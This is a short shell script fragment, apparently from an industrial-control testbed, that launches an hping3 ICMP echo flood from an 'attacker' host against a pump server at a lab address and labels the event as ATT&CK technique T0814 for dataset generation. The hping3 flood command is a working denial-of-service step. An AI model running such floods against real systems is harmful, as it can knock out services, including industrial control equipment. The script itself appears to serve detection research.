# ICMP echo flood against the pump server (hping3 --icmp, 3000 requests at about 2000/s).
DEFAULT_DURATION=30
attack_icmp_flood() {
  command -v hping3 > /dev/null || { echo "hping3 missing (scripts/install-deps.sh)" >&2; return 1; }
  local t0 t1
  t0=$(now)
  run_in attacker hping3 20 hping3 -q --icmp -d 64 -i u500 -c 3000 10.10.1.5
  t1=$(now)
  label icmp_flood T0814 attacker pumpsrv "$t0" "$t1" \
    "hping3 --icmp: 3000 echo requests to 10.10.1.5 at about 2000 packets/s"
}
scenario_run() {
  start_ward "$1"
  sleep 6
  attack_icmp_flood
}
